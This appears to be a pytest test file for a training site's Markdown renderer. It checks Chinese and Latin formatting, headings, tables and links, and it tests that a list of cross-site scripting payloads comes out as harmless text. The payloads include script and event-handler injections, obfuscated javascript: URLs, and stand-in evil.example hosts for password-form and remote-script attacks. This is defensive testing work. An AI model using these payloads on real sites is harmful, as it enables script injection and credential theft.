"""Articles: what Markdown becomes, and a table of attacks that become text or nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from trainingapp.courses.articles import render_article


def flat(markdown: str) -> str:
    return re.sub(r"\s*\n\s*", "", render_article(markdown))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("一段。\n\n又一段。", "<p>一段。</p><p>又一段。</p>"),
        ("**要点：**先接案", "<p><strong>要点：</strong>先接案</p>"),  # beside Chinese punctuation
        ("“**个案**”和**“小组”**的", "<p>“<strong>个案</strong>”和<strong>“小组”</strong>的</p>"),
        ("第一行\n接着写", "<p>第一行接着写</p>"),  # a folded line leaves no gap in Chinese
        ("one\ntwo", "<p>onetwo</p>"),  # flattened by this test; the line break itself stays
        ("* 甲\n* 乙", "<ul><li>甲</li><li>乙</li></ul>"),
        ("3. 丙", '<ol start="3"><li>丙</li></ol>'),
        ("> 引文", "<blockquote><p>引文</p></blockquote>"),
        ("~~旧~~ `码`", "<p><s>旧</s> <code>码</code></p>"),
        ("---", "<hr>"),
    ],
)
def test_markdown_becomes_html(markdown: str, html: str) -> None:
    assert flat(markdown) == html


def test_latin_words_keep_their_gap() -> None:
    assert render_article("one\ntwo") == "<p>one\ntwo</p>\n"


def test_headings_begin_at_the_second_level_and_leave_none_out() -> None:
    found = re.findall(
        r"<(h\d)>", render_article("### 甲\n\n# 乙\n\n##### 丙\n\n###### 丁\n\n## 戊")
    )
    assert found == ["h2", "h2", "h3", "h4", "h3"]
    deep = "\n\n".join(f"{'#' * n} 级" for n in range(1, 7))
    assert re.findall(r"<(h\d)>", render_article(deep)) == ["h2", "h3", "h4", "h5", "h6", "h6"]
    assert render_article(deep).count("</h6>") == 2


def test_a_wide_table_scrolls_in_a_frame_that_the_keyboard_reaches() -> None:
    html = flat("| 甲 | 乙 |\n|---|:-:|\n| 1 | 2 |")
    assert html.startswith('<div class="article-table" tabindex="0"><table><thead>')
    assert html.endswith("</table></div>")
    assert "style" not in html


def test_links_lead_out_without_a_trace() -> None:
    html = flat("[法](https://example.org/a 'x') <https://b.example> <me@example.org>")
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert 'href="https://example.org/a"' in html
    assert 'href="mailto:me@example.org"' in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x 'y\" onerror=\"alert(1)')",
    '[x](https://a.example "y\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>",
    "<x onclick=alert(1)>",
]
TAG = re.compile(r"</?([a-z0-9]+)((?:\s+[a-z-]+(?:=\"[^\"]*\")?)*)\s*/?>", re.I)
KNOWN = {"p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em"}
KNOWN |= {"strong", "s", "a", "table", "thead", "tbody"}
KNOWN |= {"tr", "th", "td", "hr", "br", "div"}


class Seen(HTMLParser):
    """Every tag and attribute as a browser would read them."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _value in attrs}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text_or_nothing(attack: str) -> None:
    html = render_article(f"之前\n\n{attack}\n\n之后")
    assert "之前" in html
    seen = Seen()
    seen.feed(html)
    assert seen.names <= KNOWN
    assert seen.attributes <= {"href", "rel", "title", "class", "tabindex", "start"}
    # Every angle bracket belongs to a tag that we know: the rest is text.
    assert "<" not in TAG.sub("", html)
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.startswith(("https://", "http://", "mailto:", "/")), address
    assert "<img" not in html


def test_a_very_long_nesting_is_bounded() -> None:
    assert render_article(">" * 500 + " 深").count("<blockquote>") <= 20
    assert render_article("[" * 5000 + "x")
    assert render_article("*_" * 5000)
